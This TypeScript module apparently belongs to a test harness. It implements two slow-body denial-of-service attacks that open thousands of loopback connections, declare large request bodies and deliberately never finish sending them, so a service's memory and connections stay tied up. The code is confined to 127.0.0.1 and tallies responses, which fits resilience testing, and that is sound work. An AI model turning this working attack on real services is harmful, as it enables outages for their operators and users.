// Bodies without a key that arrive almost whole and never end: a few hundred large ones, or thousands of small ones.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack, Target } from './attack.ts'
import { count, type Tally } from './tally.ts'

type Upload = { path: string; bytes: number; from: string }

const LARGE_UPLOADS = 300
/** More than the service has memory for, 7 KiB each, from two networks. */
const SMALL_UPLOADS = 5_000
const SMALL_BYTES = 7 * 2 ** 10
/** Strangers are not on the network of the neighbors. */
const NETWORKS = ['127.0.2.1', '127.0.3.1']
const NETWORK_OF_LARGE = '127.0.4.1'
const CONNECTIONS_AT_ONCE = 100

const FILLER = Buffer.alloc(5 * 2 ** 20, 'x')

export const slowLargeBodies: Attack = (target, signal, tally) => {
  const from = NETWORK_OF_LARGE
  const hook = { path: `/hooks/${target.integrationId}`, bytes: 5 * 2 ** 20 - 1, from }
  const uploads: Upload[] = [
    hook,
    { path: '/edge/enrol', bytes: 2 ** 20 - 1, from },
    hook,
    { path: '/ui/reset', bytes: 2 ** 20 - 1, from },
  ]
  return stallAll(LARGE_UPLOADS, uploads, { target, signal, tally })
}

export const slowSmallBodies: Attack = (target, signal, tally) => {
  const paths = ['/edge/enrol', `/hooks/${target.integrationId}`]
  const uploads = paths.flatMap((path) =>
    NETWORKS.map((from) => ({ path, bytes: SMALL_BYTES, from })),
  )
  return stallAll(SMALL_UPLOADS, uploads, { target, signal, tally })
}

type Stalling = { target: Target; signal: AbortSignal; tally: Tally }

async function stallAll(
  clients: number,
  uploads: readonly Upload[],
  stalling: Stalling,
): Promise<void> {
  const one = async (index: number) => {
    const upload = uploads[index % uploads.length]
    if (!upload) return
    // Not all in the same moment: the kernel would drop what does not fit into its queue.
    await sleep((10 * index) / CONNECTIONS_AT_ONCE)
    while (!stalling.signal.aborted) {
      await stall(upload, stalling)
      await sleep(100)
    }
  }
  await Promise.all(Array.from({ length: clients }, (_, index) => one(index)))
}

function stall({ path, bytes, from }: Upload, { target, signal, tally }: Stalling): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>()
  const { port } = new URL(target.url)
  const socket = connect({
    port: Number(port),
    host: '127.0.0.1',
    localAddress: from,
  })
  const end = () => socket.destroy()
  signal.addEventListener('abort', end)
  socket.on('error', () => undefined)
  socket.on('close', () => {
    signal.removeEventListener('abort', end)
    resolve()
  })
  socket.on('data', (piece) => {
    count(tally, Number(/^HTTP\/1\.1 (\d+)/.exec(piece.toString('latin1'))?.[1] ?? 0))
    end()
  })
  const head = [
    `POST ${path} HTTP/1.1`,
    `Host: ${target.host}`,
    'Content-Type: application/json',
    `Content-Length: ${bytes}`,
  ]
  socket.write(`${head.join('\r\n')}\r\n\r\n`)
  socket.write(FILLER.subarray(0, bytes - 1))
  return promise
}
